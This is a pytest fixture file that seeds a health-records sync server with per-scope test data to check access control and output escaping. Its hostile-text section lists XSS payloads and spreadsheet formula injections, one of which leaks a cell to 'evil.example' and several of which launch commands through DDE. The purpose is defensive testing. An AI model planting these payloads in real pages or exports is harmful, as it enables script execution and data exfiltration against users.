"""Security test fixtures: one seeded server per backend and module, callers of every role.

The seeded world holds, per scope, records whose names carry a unique marker word (``Zorb..``):
a response that contains a marker the caller may not read is a leak, whatever its shape.
"""

from __future__ import annotations

import itertools
import re
from dataclasses import dataclass, field

import pytest

from testkit import world as world_mod
from testkit.factories import child_visit, new_id, person
from testkit.servers import BACKENDS, database_url, reset_database, test_config

HLC = itertools.count(1_764_000_000_000, 10)

# One user per role, plus anonymous (None).
ROLE_USERS = {
    "kader": "kader_a1",
    "bidan_desa": "bidan_a",
    "puskesmas": "pkm_a",
    "kecamatan": "kec_a",
    "dinas": "dinas",
    "admin": "admin",
    "anonymous": None,
}

# Who may read each scope's records (DESIGN §5, tests/server/test_scope.py).
READERS = {
    "A1": {"kader_a1", "bidan_a", "pkm_a", "kec_a", "dinas", "admin"},
    "A2": {"kader_a2", "bidan_a", "pkm_a", "kec_a", "dinas", "admin"},
    "B1": {"kader_b1", "pkm_b", "dinas", "admin"},
    "LA": {"kec_a", "pkm_a", "dinas", "admin"},  # lokmin of kecamatan 611101
    "LB": {"pkm_b", "dinas", "admin"},  # lokmin of kecamatan 611102
}
# Marker words per scope (in person names, mother names, conflict values, lokmin texts).
MARKERS = {
    "A1": ("Zorbaa", "Zorbac", "Zorbad"),
    "A2": ("Zorbab",),
    "B1": ("Zorbbb", "Zorbbc", "Zorbbd"),
    "LA": ("Zorbla", "Zorbga"),
    "LB": ("Zorblb", "Zorbgb"),
}


def forbidden_markers(username: str | None) -> set[str]:
    """Return the marker words ``username`` must never receive."""
    return {m for scope, words in MARKERS.items() for m in words if username not in READERS[scope]}


def csrf_of(html: str) -> str:
    """Return the CSRF token of the first form on a page."""
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


class Caller:
    """A device signed in through the real login, using the in-process test client."""

    def __init__(self, client, username: str, device_name: str = "sec"):
        response = client.post(
            "/api/v1/auth/login",
            json={"username": username, "password": world_mod.PASSWORD, "device_name": device_name},
        )
        assert response.status_code == 200, response.text
        body = response.json
        self.client, self.username = client, username
        self.device_id, self.token = body["device_id"], body["token"]
        self.headers = {"Authorization": f"Bearer {self.token}", "Accept-Language": "id"}
        self.next_seq = 1  # the next seq the server expects
        self._pending = 1

    def peek_seq(self) -> int:
        """Return the seq the next mutation will get."""
        return self._pending

    def mutation(
        self,
        kind: str,
        fields: dict,
        *,
        record_id: str | None = None,
        op: str = "upsert",
        base_version: int | None = None,
    ) -> dict:
        seq, self._pending = self._pending, self._pending + 1
        return {
            "seq": seq,
            "id": record_id or fields["id"],
            "kind": kind,
            "op": op,
            "base_version": base_version,
            "fields": fields,
            "hlc": f"{next(HLC):016d}:00000:{self.device_id}",
            "device_time": "2026-11-24T09:00:00+07:00",
        }

    def push(self, *mutations: dict, device_id: str | None = None):
        """Push a batch; keep the seq counter in step with what the server consumed."""
        response = self.client.post(
            "/api/v1/sync/push",
            headers=self.headers,
            json={"device_id": device_id or self.device_id, "mutations": list(mutations)},
        )
        self.sync_seq(response)
        return response

    def sync_seq(self, response) -> None:
        """Advance past the seqs an answered batch consumed; forget those of a refused one."""
        if response.status_code == 200:
            self.next_seq = response.json["last_seq"] + 1
        self._pending = self.next_seq

    def push_ok(self, kind: str, fields: dict, **kw) -> dict:
        response = self.push(self.mutation(kind, fields, **kw))
        assert response.status_code == 200, response.text
        return response.json["results"][0]


@dataclass
class Seeded:
    """A server app with the test world and records of every scope."""

    app: object
    backend: str
    callers: dict[str, Caller] = field(default_factory=dict)
    persons: dict[str, str] = field(default_factory=dict)  # scope -> person id
    visits: dict[str, str] = field(default_factory=dict)
    conflicts: dict[str, int] = field(default_factory=dict)  # scope -> conflict id
    ilp: dict[str, dict[str, str]] = field(default_factory=dict)  # scope -> {kind: id}
    meetings: dict[str, str] = field(default_factory=dict)
    agreements: dict[str, str] = field(default_factory=dict)
    devices: dict[str, str] = field(default_factory=dict)  # username -> device id
    _web: dict = field(default_factory=dict)

    def web(self, username: str | None):
        """Return a test client signed in to the web pages as ``username`` (None: anonymous)."""
        if username not in self._web:
            client = self.app.test_client()
            if username is not None:
                page = client.get("/masuk")
                response = client.post(
                    "/masuk",
                    data={
                        "username": username,
                        "password": world_mod.PASSWORD,
                        "csrf_token": csrf_of(page.text),
                    },
                )
                assert response.status_code == 302, response.text
            self._web[username] = client
        return self._web[username]

    def csrf(self, username: str | None) -> str:
        """Return a valid CSRF token for ``username``'s web session."""
        client = self.web(username)
        return csrf_of(client.get("/masuk" if username is None else "/lokmin").text)

    def db_counts(self) -> tuple[int, int]:
        """Return the number of rows in ``record`` and ``mutation_log``."""
        import sqlalchemy as sa

        from server.extensions import db

        with self.app.app_context():
            return tuple(
                db.session.execute(sa.text(f"SELECT count(*) FROM {t}")).scalar()
                for t in ("record", "mutation_log")
            )

    def record(self, record_id: str):
        from server.extensions import db
        from server.models import Record

        with self.app.app_context():
            row = db.session.get(Record, record_id)
            return None if row is None else (dict(row.fields), row.version, row.deleted)


def _make_conflict(a: Caller, b: Caller, person_id: str, win: str, lose: str) -> None:
    """Two devices change the same name from version 1: the later one is queued as a conflict."""
    a.push_ok("person", {"name": win}, record_id=person_id, base_version=1)
    result = b.push_ok("person", {"name": lose}, record_id=person_id, base_version=1)
    assert result["status"] == "conflict", result


def ilp_records(child: dict, word: str) -> list[tuple[str, dict]]:
    """Records of every ILP kind around a child of a posyandu: a mother in nifas, a remaja."""
    psy, desa = child["posyandu_id"], child["desa_code"]
    mother = person(psy, desa_code=desa, name=f"Ibu {word}", birth_date="1995-04-02")
    youth = person(psy, desa_code=desa, name=f"Remaja {word}", birth_date="2012-01-20")
    base = {"posyandu_id": psy, "notes": f"Catatan {word}"}
    pregnancy = {
        **base,
        "id": new_id(),
        "person_id": mother["id"],
        "registered_on": "2026-02-01",
        "status": "delivered",
        "delivery_date": "2026-10-01",
    }
    screening = {
        **base,
        "id": new_id(),
        "person_id": child["id"],
        "visit_date": "2026-10-10",
        "symptoms": ["tb_contact"],
    }
    return [
        ("person", mother),
        ("person", youth),
        ("pregnancy", pregnancy),
        (
            "postpartum_visit",
            {
                **base,
                "id": new_id(),
                "pregnancy_id": pregnancy["id"],
                "person_id": mother["id"],
                "visit_date": "2026-10-05",
                "vitamin_a_given": True,
            },
        ),
        (
            "family_planning",
            {
                **base,
                "id": new_id(),
                "person_id": mother["id"],
                "visit_date": "2026-10-05",
                "status": "pus",
                "method": "suntik",
            },
        ),
        (
            "youth_visit",
            {
                **base,
                "id": new_id(),
                "person_id": youth["id"],
                "visit_date": "2026-10-07",
                "hb_g_dl": 11.5,
                "ttd_given": True,
            },
        ),
        ("tb_screening", screening),
        (
            "referral",
            {
                **base,
                "id": new_id(),
                "person_id": child["id"],
                "referral_date": "2026-10-10",
                "source_kind": "tb_screening",
                "source_id": screening["id"],
                "reason": "tb_suspect",
                "destination": "puskesmas",
            },
        ),
        (
            "immunization",
            {
                **base,
                "id": new_id(),
                "person_id": child["id"],
                "antigen": "BCG",
                "given_on": child["birth_date"],
            },
        ),
    ]


def seed_ilp(caller: Caller, child: dict, word: str) -> dict[str, str]:
    """Push records of every ILP kind (and their mother, remaja and pregnancy) for a child."""
    ids = {}
    for kind, fields in ilp_records(child, word):
        assert caller.push_ok(kind, fields)["status"] == "applied", kind
        key = kind if kind != "person" else ("mother" if "Ibu" in fields["name"] else "youth")
        ids[key] = fields["id"]
    return ids


def seed(app, backend: str) -> Seeded:
    """Build the world and push records of every scope through the API."""
    from server.extensions import db
    from server.models import Conflict

    world_mod.build(app)
    s = Seeded(app, backend)
    client = app.test_client()
    for username in world_mod.USERS:
        s.callers[username] = Caller(client, username)
        s.devices[username] = s.callers[username].device_id
    c = s.callers
    for scope, user, psy, desa, words in (
        ("A1", "kader_a1", "PSY-A1", "6111012001", MARKERS["A1"]),
        ("A2", "kader_a2", "PSY-A2", "6111012001", MARKERS["A2"]),
        ("B1", "kader_b1", "PSY-B1", "6111022001", MARKERS["B1"]),
    ):
        p = person(
            psy,
            desa_code=desa,
            name=f"Anak {words[0]}",
            mother_name=f"Ibu {words[0]}",
            birth_date="2025-06-10",
        )
        assert c[user].push_ok("person", p)["status"] == "applied"
        v = child_visit(p, visit_date="2026-10-10")
        assert c[user].push_ok("child_visit", v)["status"] == "applied"
        s.persons[scope], s.visits[scope] = p["id"], v["id"]
        s.ilp[scope] = seed_ilp(c[user], p, words[0])
    # Conflicts: A on a kader's and the bidan's edits, B on two devices of kader_b1.
    _make_conflict(c["kader_a1"], c["bidan_a"], s.persons["A1"], "Anak Zorbac", "Anak Zorbad")
    second_b1 = Caller(client, "kader_b1", "sec-2")
    _make_conflict(c["kader_b1"], second_b1, s.persons["B1"], "Anak Zorbbc", "Anak Zorbbd")
    for scope, user, kec, words in (
        ("LA", "kec_a", "611101", MARKERS["LA"]),
        ("LB", "pkm_b", "611102", MARKERS["LB"]),
    ):
        m = {
            "id": new_id(),
            "kecamatan_code": kec,
            "kind": "tribulanan_rutin",
            "year": 2026,
            "quarter": 4,
            "meeting_date": "2026-10-10",
            "status": "held",
            "chair_name": f"Camat {words[0]}",
            "venue": f"Aula {words[0]}",
            "attendance": [{"name": f"Pak {words[0]}", "sector": "koramil"}],
            "problems": [{"description": f"Masalah {words[0]}"}],
        }
        assert c[user].push_ok("lokmin_meeting", m)["status"] == "applied", user
        a = {
            "id": new_id(),
            "meeting_id": m["id"],
            "kecamatan_code": kec,
            "action": f"Tindak {words[1]}",
            "sector": "pkk",
            "pic_name": f"Bu {words[1]}",
            "due_date": "2026-11-01",
            "status": "in_progress",
        }
        assert c[user].push_ok("lokmin_agreement", a)["status"] == "applied", user
        s.meetings[scope], s.agreements[scope] = m["id"], a["id"]
    with app.app_context():
        import sqlalchemy as sa

        for row in db.session.execute(sa.select(Conflict)).scalars():
            scope = "A1" if row.record_id == s.persons["A1"] else "B1"
            s.conflicts[scope] = row.id
    assert set(s.conflicts) == {"A1", "B1"}
    return s


def make_app(backend: str, tmp_path_factory, **extra):
    """Return a server app on an empty, migrated database of ``backend``."""
    from server import create_app

    tmp = tmp_path_factory.getbasetemp()
    app = create_app(
        test_config(
            database_url(backend, str(tmp)), PASSWORD_HASH_METHOD="pbkdf2:sha256:1000", **extra
        ),
        instance_path=str(tmp / "instance"),
    )
    reset_database(app)
    return app


def dispose(app) -> None:
    from server.extensions import db

    with app.app_context():
        db.session.remove()
        db.engine.dispose()


@pytest.fixture(scope="module", params=BACKENDS)
def seeded(request, tmp_path_factory):
    """One seeded server per module and backend (tests must not change what others read)."""
    app = make_app(request.param, tmp_path_factory)
    yield seed(app, request.param)
    dispose(app)


# -- hostile text in every displayed field ---------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "</textarea><script>alert(1)</script>",
    "{{7*7}}",
    "</script><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "<svg onload=alert(1)>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\uff1d1+1",
]
HOSTILE = XSS + FORMULAS


def add_hostile(s: Seeded) -> dict:
    """Store hostile text in every field the pages and exports show; return what was stored."""
    from server.cli import create_user
    from server.extensions import db

    c, stored = s.callers, {}
    for i, text in enumerate(HOSTILE):
        p = person(
            "PSY-A1",
            name=f"Anak {text}",
            mother_name=f"Ibu {text}",
            address=text,
            notes=text,
            birth_date="2025-06-10",
        )
        assert c["kader_a1"].push_ok("person", p)["status"] == "applied", text
        v = child_visit(p, visit_date="2026-10-12", notes=text)
        assert c["kader_a1"].push_ok("child_visit", v)["status"] == "applied", text
        stored[f"person-{i}"] = p["id"]
    # The other kinds the pages show, with hostile notes (pregnancy, ANC, adult visit, posyandu
    # day, desa report).
    mother = s.persons["A1"]
    pregnancy = {
        "id": new_id(),
        "person_id": mother,
        "posyandu_id": "PSY-A1",
        "registered_on": "2026-09-01",
        "notes": XSS[1],
    }
    for kind, fields in (
        ("pregnancy", pregnancy),
        (
            "anc_visit",
            {
                "id": new_id(),
                "pregnancy_id": pregnancy["id"],
                "person_id": mother,
                "posyandu_id": "PSY-A1",
                "visit_date": "2026-10-12",
                "notes": XSS[0],
            },
        ),
        (
            "adult_visit",
            {
                "id": new_id(),
                "person_id": mother,
                "posyandu_id": "PSY-A1",
                "visit_date": "2026-10-12",
                "weight_kg": 61.5,
                "notes": XSS[3],
            },
        ),
        (
            "posyandu_session",
            {
                "id": new_id(),
                "posyandu_id": "PSY-A1",
                "opened": True,
                "session_date": "2026-10-12",
                "notes": XSS[5],
            },
        ),
        (
            "desa_report",
            {"id": new_id(), "desa_code": "6111012001", "period": "2026-10", "notes": XSS[7]},
        ),
    ):
        assert c["kader_a1"].push_ok(kind, fields)["status"] == "applied", kind
        stored[kind] = fields["id"]
    # Every ILP kind, with a hostile name and notes (the pages of issue 15 will show them).
    child = s.record(s.persons["A1"])[0]
    for kind, fields in ilp_records(child, XSS[4]):
        assert c["kader_a1"].push_ok(kind, fields)["status"] == "applied", kind
        stored.setdefault(kind, fields["id"])
    # A conflict whose two values are hostile (conflict page and its downloads).
    p = person("PSY-A1", name="Anak Konflik")
    c["kader_a1"].push_ok("person", p)
    _make_conflict(c["kader_a1"], c["bidan_a"], p["id"], f"Anak {XSS[1]}", f"Anak {FORMULAS[0]}")
    # Posyandu names through the registry (admin), a hostile posyandu and a renamed one.
    for fid, name in (("PSY-A1", f"Posyandu {XSS[0]}"), ("PSY-A9", f"Posyandu {XSS[1]}")):
        facility = {
            "id": fid,
            "code": fid,
            "name": name,
            "kind": "posyandu",
            "parent_id": "PKM-A",
            "desa_code": "6111012001",
            "kecamatan_code": "611101",
            "wilayah_kerja": [],
        }
        base = s.record(fid)
        result = c["admin"].push_ok("facility", facility, base_version=base[1] if base else None)
        assert result["status"] == "applied", result
    # Lokmin meeting and agreement texts (kecamatan A).
    m = {
        "id": new_id(),
        "kecamatan_code": "611101",
        "kind": "tribulanan_rutin",
        "year": 2026,
        "quarter": 4,
        "meeting_date": "2026-10-20",
        "status": "held",
        "venue": XSS[1],
        "chair_name": XSS[0],
        "agenda": FORMULAS[0],
        "attendance": [{"name": XSS[2], "sector": "pkk", "institution": FORMULAS[3]}],
        "problems": [{"description": XSS[3]}],
    }
    assert c["kec_a"].push_ok("lokmin_meeting", m)["status"] == "applied"
    a = {
        "id": new_id(),
        "meeting_id": m["id"],
        "kecamatan_code": "611101",
        "action": XSS[5],
        "sector": "pkk",
        "pic_name": FORMULAS[1],
        "pic_role": XSS[4],
        "success_indicator": XSS[6],
        "progress_note": FORMULAS[2],
        "due_date": "2026-11-01",
        "status": "in_progress",
    }
    assert c["kec_a"].push_ok("lokmin_agreement", a)["status"] == "applied"
    # A user's display name and a device name.
    with s.app.app_context():
        create_user("kader_x", f"Kader {XSS[1]}", "kader", "PSY-A1", world_mod.PASSWORD)
        db.session.commit()
    Caller(s.app.test_client(), "kader_x", device_name=f"HP {XSS[7]} {FORMULAS[0]}")
    return stored


@pytest.fixture(scope="module", params=BACKENDS)
def hostile(request, tmp_path_factory):
    """A seeded server whose displayed text fields hold script, markup and formulas."""
    app = make_app(request.param, tmp_path_factory)
    s = seed(app, request.param)
    add_hostile(s)
    yield s
    dispose(app)
